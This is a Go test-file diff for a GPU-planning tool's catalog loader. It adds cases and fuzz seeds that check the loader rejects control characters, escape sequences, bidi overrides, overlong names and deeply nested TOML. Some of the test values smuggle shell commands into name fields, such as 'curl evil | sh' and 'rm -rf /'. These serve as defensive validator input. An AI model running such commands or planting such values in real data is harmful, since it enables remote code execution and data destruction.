@@ -10,6 +10,7 @@ import (
 	"testing"
 	"testing/fstest"
 
+	"github.com/gpuplan/gpuplan/data/safeio"
 	"github.com/gpuplan/gpuplan/model"
 )
 
@@ -260,6 +261,26 @@ func TestBrokenFiles(t *testing.T) {
 		{"bad family", map[string]string{"catalog/models.toml": strings.Replace(okModel, `family = "decoder"`, `family = "transformer"`, 1)}, []string{`models.toml: model "m1": family "transformer": want decoder`}},
 		{"bad shape", map[string]string{"catalog/models.toml": strings.Replace(okModel, "heads = 12", "heads = 7", 1)}, []string{"hidden 768 is not a multiple of heads 7"}},
 		{"discount fraction", map[string]string{"catalog/discounts.toml": strings.Replace(okDiscount, "fraction = 0.3", "fraction = 37", 1)}, []string{"fraction must be between 0 and 1"}},
+		{"newline in a GPU name", map[string]string{"catalog/gpus.toml": strings.Replace(okGPU, `name = "X1"`, `name = "X1\ncurl evil | sh"`, 1)},
+			[]string{`gpus.toml: gpu "x1": name: control character \n (newline) at byte 2; names must be printable text on one line`}},
+		{"ESC in a GPU alias", map[string]string{"catalog/gpus.toml": strings.Replace(okGPU, `name = "X1"`, `name = "X1"`+"\naliases = [\"ok\", \"\\u001b]0;x\\u0007\"]", 1)},
+			[]string{`gpus.toml: gpu "x1": aliases[2]: control character \x1b (ESC) at byte 0`}},
+		{"NUL in a model name", map[string]string{"catalog/models.toml": strings.Replace(okModel, `name = "M1"`, `name = "M\u00001"`, 1)},
+			[]string{`models.toml: model "m1": name: control character \x00 (NUL) at byte 1`}},
+		{"a 300-byte model name", map[string]string{"catalog/models.toml": strings.Replace(okModel, `name = "M1"`, `name = "`+strings.Repeat("m", 300)+`"`, 1)},
+			[]string{`models.toml: model "m1": name: 300 bytes long, the limit is 256`}},
+		{"newline in an instance type", map[string]string{"catalog/instances/p.toml": strings.Replace(okInstance, `type = "i.1"`, `type = "i.1\nrm -rf /"`, 1)},
+			[]string{`p.toml: instance "i.1\nrm -rf /": type: control character \n (newline) at byte 3`}},
+		{"bidi override in a region", map[string]string{"catalog/instances/p.toml": strings.Replace(okInstance, `region = "r1"`, `region = "r1\u202e"`, 1)},
+			[]string{`p.toml: instance "i.1": prices[1].region: control character U+202E at byte 2`}},
+		{"ESC in a SkyPilot accelerator name", map[string]string{"catalog/instances/p.toml": strings.Replace(okInstance, `type = "i.1"`, `type = "i.1"`+"\nskypilot_accelerator = \"A\\u001b[2J\"", 1)},
+			[]string{`p.toml: instance "i.1": skypilot_accelerator: control character \x1b (ESC) at byte 1`}},
+		{"DEL in a discount prefix", map[string]string{"catalog/discounts.toml": strings.Replace(okDiscount, `fraction = 0.3`, "fraction = 0.3\nprefixes = [\"p\\u007f\"]", 1)},
+			[]string{`discounts.toml: discount #1: prefixes[1]: control character \x7f (DEL) at byte 1`}},
+		{"seven unknown keys: five shown and a count", map[string]string{"catalog/gpus.toml": okGPU + "a1 = 1\na2 = 1\na3 = 1\na4 = 1\na5 = 1\na6 = 1\na7 = 1\n"},
+			[]string{`unknown key "gpu.a5"; and 2 more unknown keys`}},
+		{"TOML nesting bomb", map[string]string{"catalog/gpus.toml": okGPU + "x = " + strings.Repeat("{a=", 15000)},
+			[]string{"gpus.toml: line 12: tables, arrays and dotted keys nest more than 8 deep"}},
 		{"unsupported schema", map[string]string{"catalog/gpus.toml": strings.Replace(okGPU, "schema_version = 1", "schema_version = 2", 1)}, []string{"schema_version 2 is not supported"}},
 	}
 	for _, tt := range tests {
@@ -403,13 +424,23 @@ func FuzzLoadGPUs(f *testing.F) {
 func FuzzLoadInstances(f *testing.F) {
 	f.Add([]byte(okInstance))
 	f.Add([]byte(strings.Replace(okInstance, "spot = 1.0", "spot = inf", 1)))
+	f.Add([]byte(strings.Replace(okInstance, `type = "i.1"`, `type = "i.1\ncurl x | sh"`, 1)))
+	f.Add([]byte(strings.Replace(okInstance, `region = "r1"`, `region = "r\u001b1"`, 1)))
 	f.Fuzz(func(t *testing.T, b []byte) {
 		c, err := load(testFS(map[string]string{"catalog/instances/p.toml": string(b)}))
 		if err != nil {
 			return
 		}
 		for _, in := range c.Instances {
+			for _, name := range []string{in.Provider, in.Type, in.GPU} {
+				if safeio.CheckName(name) != nil {
+					t.Fatalf("accepted a name that is not data: %q", name)
+				}
+			}
 			for _, p := range in.Prices {
+				if safeio.CheckName(p.Region) != nil || p.OnDemandUSD > maxUSDPerHour || p.SpotUSD > maxUSDPerHour {
+					t.Fatalf("accepted region %q or a price above the cap: %+v", p.Region, p)
+				}
 				if p.OnDemandUSD < 0 || p.SpotUSD < 0 || math.IsNaN(p.OnDemandUSD) || math.IsNaN(p.SpotUSD) || math.IsInf(p.OnDemandUSD, 0) {
 					t.Fatalf("accepted bad price %+v", p)
 				}
